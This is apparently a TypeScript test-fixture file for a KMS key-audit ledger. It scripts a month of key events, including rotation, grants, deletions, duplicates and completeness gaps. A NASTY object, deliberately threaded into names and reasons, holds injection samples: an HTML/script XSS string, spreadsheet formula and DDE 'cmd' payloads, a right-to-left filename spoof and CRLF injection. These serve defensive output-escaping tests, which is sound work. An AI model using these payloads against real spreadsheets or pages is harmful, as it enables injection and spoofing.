import type { Actor, KeyAction } from '../../lib/event/key-action.ts';
import { findOperation } from '../../lib/event/operations.ts';
import type {
  ActionEntry,
  CompletenessStatement,
  Draft,
  RecordedDecision,
  RecordedVerdict,
} from '../../lib/ledger/entry.ts';
import { COMPLETENESS, INVENTORY, MALFORMED } from '../../lib/ledger/keys.ts';
import { createMemoryLedger, type MemoryLedger } from './memory-ledger.ts';

export const ACCOUNT = '111122223333';
export const REGION = 'eu-west-1';
export const KEY = `arn:aws:kms:${REGION}:${ACCOUNT}:key/11111111-0000-4000-8000-000000000001`;
export const OTHER_KEY = `arn:aws:kms:${REGION}:${ACCOUNT}:key/22222222-0000-4000-8000-000000000002`;
export const NEW_KEY = `arn:aws:kms:${REGION}:${ACCOUNT}:key/33333333-0000-4000-8000-000000000003`;
export const WINDOW = { from: '2026-07-01T00:00:00.000Z', to: '2026-08-01T00:00:00.000Z' };
export const POLICY_SHA = 'c'.repeat(64);

/** Names as an attacker would choose them. */
export const NASTY = {
  html: '<img src=x onerror="document.title=1">&amp;<script>alert(1)</script>',
  formula: '=HYPERLINK("https://example.com/?"&A1,"open")',
  wideFormula: " \u{ff1d}cmd|' /C calc'!A0",
  rightToLeft: 'invoice\u{202e}fdp.exe\u{2066}',
  lines: 'first line\r\n-2+3+cmd\tsecond',
  long: `very-long-${'x'.repeat(1_500)}`,
};

export const DANA: Actor = {
  type: 'AssumedRole',
  arn: `arn:aws:sts::${ACCOUNT}:assumed-role/KeyAdmin/dana@example.com`,
  sessionIssuer: `arn:aws:iam::${ACCOUNT}:role/KeyAdmin`,
  person: 'dana@example.com',
  sourceIp: '192.0.2.10',
  mfa: true,
  bySelf: false,
};

/** An action on {@link KEY}; a test says only what is different about its own. */
export function actionWith(overrides: Partial<KeyAction> & Pick<KeyAction, 'eventId' | 'api' | 'time'>): KeyAction {
  const subject = overrides.subject ?? KEY;
  const eventSource = overrides.eventSource ?? 'kms.amazonaws.com';
  return {
    ...findOperation(overrides.api, eventSource),
    eventSource,
    subject,
    keys: [subject],
    account: ACCOUNT,
    region: REGION,
    requestId: `request-${overrides.eventId}`,
    actor: DANA,
    request: {},
    response: {},
    outcome: 'succeeded',
    origin: 'eventbridge',
    digest: 'd'.repeat(64),
    ...overrides,
  };
}

export const verdictWith = (overrides: Partial<RecordedVerdict> = {}): RecordedVerdict => ({
  control: 'rotation-enabled',
  step: '4.4.1',
  severity: 'high',
  verdict: 'compliant',
  reason: 'Rotation of the key is on.',
  ...overrides,
});

type ActionDraft = Extract<Draft, Pick<ActionEntry, 'type'>>;

export const actionDraft = (
  action: KeyAction,
  verdicts: readonly RecordedVerdict[] = [],
  decisions: readonly RecordedDecision[] = [],
  more: Partial<ActionDraft> = {},
): ActionDraft => ({ type: 'action', action, policy: POLICY_SHA, verdicts, decisions, ...more });

/** Seconds after the action, as records come. */
export const soonAfter = (time: string, seconds = 9): string =>
  new Date(Date.parse(time) + seconds * 1_000).toISOString();

/** Appends an action; @returns its number in the chain */
export function record(
  ledger: MemoryLedger,
  action: KeyAction,
  verdicts: readonly RecordedVerdict[] = [],
  decisions: readonly RecordedDecision[] = [],
  more: Partial<ActionDraft> = {},
): number {
  const draft = actionDraft(action, verdicts, decisions, more);
  return ledger.append(action.subject, action.eventId, soonAfter(action.time), draft);
}

export const statementWith = (overrides: Partial<CompletenessStatement> = {}): CompletenessStatement => ({
  source: 'lookup-events',
  account: ACCOUNT,
  region: REGION,
  queries: ['EventSource = kms.amazonaws.com'],
  notAsked: [],
  occasion: 'schedule',
  window: WINDOW,
  startedAt: '2026-08-01T01:00:00.000Z',
  endedAt: '2026-08-01T01:02:00.000Z',
  counts: { read: 20, expected: 12, recorded: 12, backfilled: 0, failed: 0, extra: 0 },
  missing: [],
  extra: [],
  omitted: 0,
  gaps: [],
  complete: true,
  by: 'keywarden-dev-reconcile',
  version: '0.1.0',
  ...overrides,
});

/** A list of keys as the evidence bucket has it, by the name of its object. */
export const LISTS: Readonly<Record<string, readonly string[]>> = {
  'inventory/start': [KEY, OTHER_KEY],
  'inventory/end': [KEY, NEW_KEY],
};

const listOf = (object: string, at: string): Draft => ({
  type: 'inventory',
  inventory: {
    ...{ at, account: ACCOUNT, region: REGION, keys: LISTS[object]?.length ?? 0, unread: 0, examples: [] },
    ...{ object, sha256: 'e'.repeat(64) },
  },
});

/**
 * A month of a company: rotation switched off and put right, a grant that a waiver excepts, a deletion with its approval, a
 * key that was made, one that was destroyed, a record that came twice, an event that could not be read, and a stretch of time
 * that nobody compared with CloudTrail.
 *
 * @param names what stands where an attacker chooses what stands there
 */
export function tellMonth(names: Readonly<Record<string, string>> = NASTY): MemoryLedger {
  const ledger = createMemoryLedger();
  const nasty = (name: string) => names[name] ?? name;
  const before = actionWith({ eventId: 'e-0', api: 'CreateAlias', time: '2026-06-12T08:00:00Z' });
  record(
    ledger,
    before,
    [verdictWith({ verdict: 'violation', reason: 'Rotation of the key was off in June.' })],
    [TELL],
  );

  const off = actionWith({
    eventId: 'e-1',
    api: 'DisableKeyRotation',
    time: '2026-07-03T08:00:00Z',
    request: { keyId: KEY },
  });
  const wrong = verdictWith({ verdict: 'violation', reason: `Rotation of the key ${nasty('html')} is off.` });
  const act = { ...TELL, decision: 'act', reason: 'The remedy is safe.', remedy: 'enable-key-rotation' };
  const of = record(ledger, off, [wrong], [act]);
  ledger.append(KEY, 'e-1', '2026-07-03T08:00:20.000Z', {
    type: 'outcome',
    of,
    remediations: [
      {
        ...{ remedy: 'enable-key-rotation', controls: ['rotation-enabled'], status: 'confirmed', requestIds: ['r-77'] },
        ...{ before: { rotation: false }, after: { rotation: true } },
        undo: [{ service: 'kms', operation: 'DisableKeyRotation', region: REGION, parameters: { KeyId: KEY } }],
      },
    ],
    told: [{ control: 'rotation-enabled', state: 'remediated', messageId: 'm-1' }],
  } as Draft);
  const self = { ...DANA, type: 'AssumedRole', bySelf: true, person: 'keywarden' };
  record(
    ledger,
    actionWith({
      eventId: 'e-2',
      api: 'EnableKeyRotation',
      time: '2026-07-03T08:00:15Z',
      actor: self,
      requestId: 'r-77',
    }),
    [verdictWith()],
  );

  const twin = {
    sameAs: {
      seq: record(
        ledger,
        actionWith({
          eventId: 'e-3',
          api: 'RotateKey',
          time: '2026-07-10T00:00:00Z',
          actor: { type: 'AWSInternal', bySelf: false },
        }),
      ),
      eventId: 'e-3',
      how: 'twin',
    },
  } as const;
  record(ledger, actionWith({ eventId: 'e-3b', api: 'RotateKey', time: '2026-07-10T00:00:00Z' }), [], [], twin);

  const grant = actionWith({
    ...{ eventId: 'e-4', api: 'CreateGrant', time: '2026-07-11T12:00:00Z' },
    actor: { ...DANA, person: nasty('formula'), userAgent: nasty('long') },
    request: { granteePrincipal: nasty('rightToLeft'), operations: ['Decrypt'], name: nasty('wideFormula') },
    response: { grantId: 'g-1' },
  });
  const wide = {
    control: 'grant-least-privilege',
    item: 'g-1',
    step: '4.2.1',
    severity: 'high',
    verdict: 'violation',
    reason: `The grant ${nasty('lines')} is wide.`,
  };
  record(
    ledger,
    grant,
    [wide],
    [
      {
        control: 'grant-least-privilege',
        item: 'g-1',
        decision: 'waived',
        reason: 'olivia@example.com answers for it until 2026-12-31 (SEC-42).',
      },
    ],
  );

  const tag = { tags: [{ tagKey: 'keywarden:deletion-approval', tagValue: `olivia@example.com ${nasty('long')}` }] };
  record(
    ledger,
    actionWith({
      eventId: 'e-5',
      api: 'TagResource',
      time: '2026-07-12T09:00:00Z',
      subject: OTHER_KEY,
      request: tag,
      actor: { ...DANA, person: 'olivia@example.com' },
    }),
  );
  record(
    ledger,
    actionWith({
      eventId: 'e-6',
      api: 'ScheduleKeyDeletion',
      time: '2026-07-12T10:00:00Z',
      subject: OTHER_KEY,
      request: { pendingWindowInDays: 7 },
    }),
    [
      verdictWith({
        control: 'deletion-authorized',
        step: '4.5.1',
        severity: 'critical',
        reason: 'olivia@example.com approved it.',
      }),
      verdictWith({
        control: 'deletion-key-unused',
        step: '4.5.1',
        severity: 'critical',
        verdict: 'unknown',
        reason: `Nobody can tell when ${nasty('html')} was used last.`,
      }),
    ],
    [{ control: 'deletion-key-unused', decision: 'tell', reason: 'Keywarden could not judge it.' }],
  );
  record(
    ledger,
    actionWith({
      eventId: 'e-7',
      api: 'DeleteKey',
      time: '2026-07-19T11:00:00Z',
      subject: OTHER_KEY,
      actor: { type: 'AWSInternal', bySelf: false },
    }),
    [
      verdictWith({
        control: 'deletion-completed',
        step: '4.5.3',
        severity: 'medium',
        reason: 'KMS destroyed the key.',
      }),
    ],
  );
  record(
    ledger,
    actionWith({
      eventId: 'e-8',
      api: 'CreateKey',
      time: '2026-07-20T07:00:00Z',
      subject: NEW_KEY,
      request: { description: nasty('html') },
    }),
    [
      verdictWith({ control: 'key-spec-approved', step: '4.1.2', reason: 'The spec is approved.' }),
      verdictWith({
        control: 'key-owner-tagged',
        step: '4.1.2',
        severity: 'low',
        verdict: 'not-applicable',
        reason: 'No tag is required.',
      }),
    ],
  );
  record(
    ledger,
    actionWith({
      eventId: 'on-demand-1',
      api: 'VerifyKey',
      time: '2026-07-21T07:00:00Z',
      eventSource: 'keywarden',
      origin: 'on-demand',
      step: '8',
      kind: 'lifecycle',
      subject: NEW_KEY,
      request: { reason: 'the auditor asks' },
      actor: { type: 'Requester', person: 'olivia@example.com', bySelf: false },
    }),
    [verdictWith()],
  );
  record(ledger, actionWith({ eventId: 'e-9', api: 'DisableKey', time: '2026-08-02T07:00:00Z', subject: NEW_KEY }));
  ledger.append(MALFORMED, 'malformed-1', '2026-07-22T00:00:01.000Z', {
    type: 'malformed',
    error: { code: 'not-json', message: nasty('lines') },
    ...{ body: nasty('html'), bodyBytes: 62, bodySha256: 'a'.repeat(64) },
  });
  tellProofs(ledger);
  return ledger;
}

const TELL: RecordedDecision = {
  control: 'rotation-enabled',
  decision: 'tell',
  reason: 'The mode of this control is observe.',
};

function tellProofs(ledger: MemoryLedger): void {
  const state = (id: string, at: string, overrides: Partial<CompletenessStatement>) =>
    ledger.append(COMPLETENESS, id, at, { type: 'statement', statement: statementWith(overrides) });
  state('s-1', '2026-07-16T01:00:00.000Z', { window: { from: WINDOW.from, to: '2026-07-16T00:00:00.000Z' } });
  state('s-2', '2026-07-20T01:00:00.000Z', {
    window: { from: '2026-07-16T00:00:00.000Z', to: '2026-07-20T00:00:00.000Z' },
    counts: { read: 9, expected: 5, recorded: 3, backfilled: 1, failed: 1, extra: 1 },
    missing: [
      { eventId: 'e-90', time: '2026-07-17T00:00:00Z', api: 'TagResource', subject: KEY, result: 'backfilled' },
      {
        eventId: 'e-91',
        time: '2026-07-17T00:00:00Z',
        api: 'TagResource',
        subject: KEY,
        result: 'failed',
        reason: 'throttled',
      },
    ],
    extra: [{ eventId: 'e-7', time: '2026-07-19T11:00:00Z', api: 'DeleteKey', subject: OTHER_KEY, seq: 3 }],
    gaps: [{ what: 'page 3 of the answer', reason: 'CloudTrail was throttled' }],
    complete: false,
  });
  state('s-3', '2026-08-01T01:00:00.000Z', { window: { from: '2026-07-22T00:00:00.000Z', to: WINDOW.to } });
  ledger.append(INVENTORY, 'i-1', '2026-06-30T23:00:00.000Z', listOf('inventory/start', '2026-06-30T23:00:00.000Z'));
  ledger.append(INVENTORY, 'i-2', '2026-07-31T23:00:00.000Z', listOf('inventory/end', '2026-07-31T23:00:00.000Z'));
  ledger.checkpoint('2026-08-01T02:00:00.000Z');
}
